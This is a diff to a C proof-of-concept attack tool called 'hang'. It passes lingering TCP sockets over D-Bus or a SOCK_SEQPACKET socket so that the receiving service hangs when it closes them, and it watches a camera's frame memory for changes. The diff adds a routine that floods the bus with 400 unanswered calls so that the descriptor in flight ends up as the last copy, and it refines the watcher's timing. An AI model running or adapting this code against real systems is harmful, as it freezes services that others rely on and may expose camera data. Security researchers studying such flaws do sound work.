@@ -1,6 +1,7 @@
 /* Sends descriptors that hang the process that closes them, and watches the memory of a camera's frames.
 
-   hang watch           captures from the camera; prints again and again whether the memory of its frames changed
+   hang watch           captures from the camera; prints again and again whether the memory of its frames changed, and
+                        since when: the time of the look before
    hang bus NAME        calls NAME, which need not exist, with a TCP socket that takes 300 s to close
    hang socket PATH     sends the same to the SOCK_SEQPACKET socket at PATH
    The line `sent` says that the attack is under way; it lasts until this program ends. */
@@ -42,13 +43,19 @@ static void watch(sd_bus *bus) {
     const uint64_t *memory = mmap(NULL, (size_t)status.st_size, PROT_READ, MAP_SHARED, file, 0);
     if (memory == MAP_FAILED) give_up("the camera's memory");
     size_t count = (size_t)status.st_size / sizeof *memory;
+    int64_t looked = now();
     uint64_t before = digest(memory, count);
     for (;;) {
+        /* Four times as long as a look takes, so that others have the processor. */
+        int64_t rest = 4 * (now() - looked);
+        poll(NULL, 0, rest < 5 ? 5 : rest > 20 ? 20 : (int)rest);
+        int64_t began = now();
         uint64_t sum = digest(memory, count);
-        printf("%s %" PRId64 "\n", sum == before ? "same" : "changed", now());
+        /* What this look sees and the one before did not see may be as old as that one. */
+        printf("%s %" PRId64 "\n", sum == before ? "same" : "changed", looked);
         fflush(stdout);
         before = sum;
-        poll(NULL, 0, 20);
+        looked = began;
     }
 }
 
@@ -81,11 +88,26 @@ static int lingering(void) {
     return end;
 }
 
+/* Calls that the bus answers itself, and nobody wants the answers. */
+static int keep_busy(sd_bus *bus, int count) {
+    int code = 0;
+    for (int number = 0; code >= 0 && number < count; number++) {
+        sd_bus_message *call = NULL;
+        code = sd_bus_message_new_method_call(bus, &call, "org.freedesktop.DBus", "/", "org.freedesktop.DBus", "GetId");
+        if (code >= 0) code = sd_bus_message_set_expect_reply(call, 0);
+        if (code >= 0) code = sd_bus_send(bus, call, NULL);
+        sd_bus_message_unref(call);
+    }
+    return code;
+}
+
 static void send_by_bus(const char *name) {
     sd_bus *bus = connect_bus();
     sd_bus_message *call = NULL;
     int end = lingering();
-    int code = sd_bus_message_new_method_call(bus, &call, name, ROOT, SERVICE ".Manager", "ListDevices");
+    /* The bus has these before it comes to the descriptor, of which we have closed our copies by then. */
+    int code = keep_busy(bus, 400);
+    if (code >= 0) code = sd_bus_message_new_method_call(bus, &call, name, ROOT, SERVICE ".Manager", "ListDevices");
     if (code >= 0) code = sd_bus_message_append(call, "h", end);
     if (code >= 0) code = sd_bus_send(bus, call, NULL);
     /* The message has a copy of its own. Once ours are closed, the one in flight is the last. */
